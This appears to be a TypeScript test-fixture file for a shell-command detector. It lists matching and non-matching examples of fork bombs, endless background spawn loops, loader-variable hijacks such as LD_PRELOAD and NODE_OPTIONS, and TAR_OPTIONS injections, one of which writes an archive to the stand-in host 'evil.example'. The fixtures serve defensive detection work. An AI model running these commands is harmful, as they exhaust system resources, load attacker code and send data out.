import type { Examples } from './examples.ts';

export const shellExamples: Examples = {
  'fork-bomb': {
    hits: [':(){ :|:& };:', 'bomb(){ bomb & }; bomb', 'b() { b | b; }; b'],
    misses: ['f() { ls | wc; }; f', 'f() { sleep 1 & }; f'],
  },
  'spawn-loop': {
    hits: ['while true; do work & done', 'for ((;;)); do work & done'],
    misses: ['while read -r l; do echo "$l"; done', 'for f in a b; do work "$f" & done'],
  },
  'loader-variable': {
    hits: ['LD_PRELOAD=./x.so ls', 'export BASH_ENV=./x', "NODE_OPTIONS='--require=./e.js' node -v"],
    misses: ['FOO=1 ls', 'ls LD_PRELOAD'],
  },
  'option-variable': {
    hits: [
      "export TAR_OPTIONS='--create --file=evil.example:/tmp/a'; tar -- f",
      "TAR_OPTIONS='--checkpoint-action=exec=x' tar cf a b",
    ],
    misses: ["TAR_OPTIONS='--verbose' tar tf a", 'TAR_OPTIONS= tar tf a'],
  },
};
